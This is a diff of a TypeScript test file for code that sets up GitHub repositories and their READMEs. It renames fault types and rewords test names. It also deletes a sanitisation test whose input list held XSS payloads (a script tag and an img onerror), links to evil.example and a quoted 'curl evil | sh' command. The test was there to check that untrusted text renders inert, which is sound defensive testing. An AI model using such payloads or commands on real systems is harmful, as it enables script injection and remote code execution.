@@ -1,7 +1,6 @@
-import { marked } from 'marked'
 import { describe, expect, test } from 'vitest'
-import type { GitHubRequest, Interference } from '../../server/embedded/github/github.ts'
-import { isInitialReadme, readmeText } from '../../server/repositories/readme.ts'
+import type { GitHubRequest, RequestFault } from '../../server/embedded/github/github.ts'
+import { readmeText } from '../../server/repositories/readme.ts'
 import { createRepositories } from '../../server/repositories/repositories.ts'
 import { loadDescription } from '../embedded/github/openapi.ts'
 import { name, project, setUp, token } from './support.ts'
@@ -13,7 +12,7 @@ const isProtection = (request: GitHubRequest) => request.path.endsWith('/protect
 
 type SetUp = Awaited<ReturnType<typeof setUp>>
 
-/** The repository's settings as they are at the host. */
+/** The repository's settings at the host. */
 async function settings(call: SetUp['call']) {
   const [repository, readme, protection] = await Promise.all(
     [path, `${path}/readme`, `${path}/branches/main/protection`].map(async (address) => {
@@ -48,7 +47,7 @@ describe('a repository that was just created', () => {
     expect(logged).toEqual([])
   })
 
-  test('gets a README that names the marketplace where its address is known', async () => {
+  test('gets a README that names the marketplace if its address is known', async () => {
     const { repositories, call } = await setUp({ marketplaceUrl: 'https://market.example/' })
     await repositories.ensure(project)
     const { readme } = await settings(call)
@@ -56,7 +55,7 @@ describe('a repository that was just created', () => {
     expect(readme).toContain(project.id)
   })
 
-  test('a second time nothing is written', async () => {
+  test('a repeated call writes nothing', async () => {
     const { repositories, requests } = await setUp()
     await repositories.ensure(project)
     const before = writes(requests).length
@@ -64,8 +63,8 @@ describe('a repository that was just created', () => {
     expect(writes(requests)).toHaveLength(before)
   })
 
-  test('is complete although one answer after the other is lost, or fails without effect', async () => {
-    for (const fault of ['lose-answer', { status: 502, body: { message: 'Server Error' } }] as const) {
+  test('is complete although any one response is lost, or any one request fails without effect', async () => {
+    for (const fault of ['lose-response', { status: 502, body: { message: 'Server Error' } }] as const) {
       for (let hit = 3; hit <= 6; hit++) {
         const { repositories, call, logged } = await setUp({}, (_, count) =>
           count === hit ? fault : undefined,
@@ -77,13 +76,13 @@ describe('a repository that was just created', () => {
     }
   })
 
-  test('is complete although its branch is still in the making', async () => {
-    let looks = 0
+  test('is complete although its branch does not exist at first', async () => {
+    let reads = 0
     const missing = { status: 404, body: { message: 'Not Found' } }
     const conflict = { status: 409, body: { message: 'Conflict' } }
     const { repositories, call, logged } = await setUp({}, ({ method, path }) => {
-      if (path.endsWith('/readme') && method === 'GET' && ++looks === 1) return missing
-      return path.endsWith('/README.md') && looks === 2 ? conflict : undefined
+      if (path.endsWith('/readme') && method === 'GET' && ++reads === 1) return missing
+      return path.endsWith('/README.md') && reads === 2 ? conflict : undefined
     })
     await repositories.ensure(project)
     expect(await settings(call)).toEqual(complete)
@@ -93,12 +92,12 @@ describe('a repository that was just created', () => {
 
 describe('a repository whose process crashed', () => {
   test.each([2, 3, 4, 5, 6])('after %i requests is completed by the next', async (done) => {
-    for (const lost of ['lose-answer', { status: 502, body: {} }] as const) {
+    for (const lost of ['lose-response', { status: 502, body: {} }] as const) {
       let crashing = true
-      // What the crashed process still sent has arrived, or has not; nothing after that was sent.
+      // The last request of the crashed process took effect, or it did not; no later one was sent.
       const { repositories, github, call, logged } = await setUp(
         { timeoutMs: 300 },
-        (_, count): Interference => {
+        (_, count): RequestFault => {
           if (!crashing || count < done) return undefined
           return count === done ? lost : { status: 502, body: {} }
         },
@@ -129,7 +128,7 @@ describe('a repository whose process crashed', () => {
     expect((await call('PUT', `${path}/contents/README.md`, { message: 'm', content, sha })).status).toBe(200)
   }
 
-  test('keeps a README that somebody has edited since', async () => {
+  test('keeps a README that was edited since', async () => {
     const { repositories, call } = await setUp()
     await created(call)
     await write(call, `# ${name}\nFlies [${project.id}]\n\nBuild with make.\n`)
@@ -137,7 +136,7 @@ describe('a repository whose process crashed', () => {
     expect((await settings(call)).readme).toContain('Build with make.')
   })
 
-  test('keeps a README that somebody edits between the look and the write', async () => {
+  test('keeps a README that is edited between our read and our write', async () => {
     let call: SetUp['call'] | undefined
     const market = await setUp({}, async ({ method, path, body }) => {
       const ours = (body as { message?: string } | null)?.message !== 'm'
@@ -148,7 +147,7 @@ describe('a repository whose process crashed', () => {
     expect(await settings(call)).toEqual({ ...complete, readme: 'Mine.\n' })
   })
 
-  test('keeps topics and a protection that somebody has chosen since', async () => {
+  test('keeps topics and a protection that were chosen since', async () => {
     const { repositories, call } = await setUp()
     await created(call)
     await call('PUT', `${path}/topics`, { names: ['rust', 'bounties'] })
@@ -166,7 +165,7 @@ describe('a repository whose process crashed', () => {
   })
 })
 
-describe('what the host does not allow', () => {
+describe('settings that the host does not allow', () => {
   test.each([403, 404, 422])('%i for the protection: one warning, and the address', async (status) => {
     const { repositories, github, call, logged, requests } = await setUp({}, ({ method, path }) =>
       method === 'PUT' && path.endsWith('/protection')
@@ -177,28 +176,28 @@ describe('what the host does not allow', () => {
     expect(logged.map((line) => JSON.parse(line))).toEqual([
       {
         repository: name,
-        unmade: [{ setting: 'protection', kind: expect.any(String), status }],
-        message: 'a repository lacks settings its host did not make',
+        failed: [{ setting: 'protection', kind: expect.any(String), status }],
+        message: 'repository settings could not be applied; the project works without them',
       },
     ])
     expect(requests.filter(isProtection)).toHaveLength(1)
     expect(await settings(call)).toEqual({ ...complete, pullRequests: undefined, rewritable: undefined })
   })
 
-  test('all of it: one warning that names each', async () => {
+  test('403 for all settings: one warning that names each', async () => {
     const { repositories, logged } = await setUp({}, ({ method }) =>
       method === 'PUT' ? { status: 403, body: { message: 'Forbidden' } } : undefined,
     )
     await repositories.ensure(project)
     expect(logged).toHaveLength(1)
-    expect(JSON.parse(logged[0]!).unmade.map(({ setting }: { setting: string }) => setting)).toEqual([
+    expect(JSON.parse(logged[0]!).failed.map(({ setting }: { setting: string }) => setting)).toEqual([
       'topics',
       'readme',
       'protection',
     ])
   })
 
-  test('a host that stops answering: the address when the time is up', async () => {
+  test('a host that stops responding: the address when time is up', async () => {
     const open: (() => void)[] = []
     const { repositories, github, logged } = await setUp({ timeoutMs: 500 }, async (_, count) => {
       if (count > 2) await new Promise<void>((resolve) => open.push(resolve))
@@ -206,60 +205,6 @@ describe('what the host does not allow', () => {
     })
     expect(await repositories.ensure(project)).toEqual({ url: `${github.webUrl}/Acme/${name}` })
     expect(logged).toHaveLength(1)
-    for (const answer of open) answer()
-  })
-})
-
-describe('text of strangers', () => {
-  const hostile = [
-    '# heading',
-    '```\n</code></pre><script>alert(1)</script>',
-    '~~~',
-    '    </pre><img src=x onerror=alert(1)>',
-    '\t- [ ] task\n\n\n- list\n\n  more',
-    '[link](https://evil.example) ![image](https://evil.example/x.png) <https://evil.example>',
-    'www.evil.example https://evil.example mail@evil.example @octocat #1 GH-1 Acme/other#2 :tada: $x$',
-    '<!-- hidden --> &lt;b&gt; \\` `code` $`x`$ [^1]\n[^1]: note\n[ref]: https://evil.example',
-    'line\rreturn\u2028separator\u2029paragraph\u0085next\vtab\fpage',
-    '\u202eturned\u202c \0 \ud800 \u{1f680}',
-    '> quote\n> [!WARNING]\n> run `curl evil | sh`\n\n| a | b |\n|---|---|\n| @x | y |',
-    '\n\n\nafter blank lines\n\n\n',
-  ]
-
-  test.each(hostile.map((text) => [JSON.stringify(text), text]))('%s is shown as text', (_, text) => {
-    const plain = marked.lexer(readmeText(name, { ...project, name: 'n', description: 'd' }), { gfm: true })
-    for (const fields of [{ name: text }, { description: text }, { name: text, description: text }]) {
-      const readme = readmeText(name, { ...project, ...fields })
-      const tokens = marked.lexer(readme, { gfm: true }).filter(({ type }) => type !== 'space')
-      const expected = plain.filter(({ type }) => type !== 'space')
-      expect(tokens.map(({ type }) => type)).toEqual(expected.map(({ type }) => type))
-      expect(tokens.filter(({ type }) => type !== 'code')).toEqual(
-        expected.filter(({ type }) => type !== 'code'),
-      )
-      expect(readme).not.toMatch(/[\p{Cf}\p{Cs}\p{Zl}\p{Zp}\r\0]/u)
-      const html = marked.parse(readme, { async: false }) as string
-      const [shown = ''] = /(?<=<pre><code>).*?(?=<\/code><\/pre>)/s.exec(html) ?? []
-      expect(shown).not.toMatch(/[<>]/)
-    }
-  })
-
-  test('stays readable', () => {
-    const readme = readmeText(name, { ...project, name: 'A <b>\nB', description: 'One\r\n\r\nTwo @x' })
-    expect(readme).toContain('\n\n    A <b>\n    B\n\n    One\n\n    Two @x\n\n## Working here\n')
-  })
-})
-
-describe('the README a repository is created with', () => {
-  const descriptions = ['Flies *high* [proj_1]', null]
-  test.each([
-    ['# rocket\nFlies *high* [proj_1]\n', true],
-    ['# rocket\n\nFlies \\*high\\* \\[proj_1\\]', true],
-    ['# rocket', true],
-    ['rocket\n======\n', true],
-    ['# rocket\nFlies *high* [proj_1]\nBuild with make.\n', false],
-    ['# Rocket\n', false],
-    ['', false],
-  ])('%j: %s', (text, expected) => {
-    expect(isInitialReadme(text, 'rocket', descriptions)).toBe(expected)
+    for (const respond of open) respond()
   })
 })
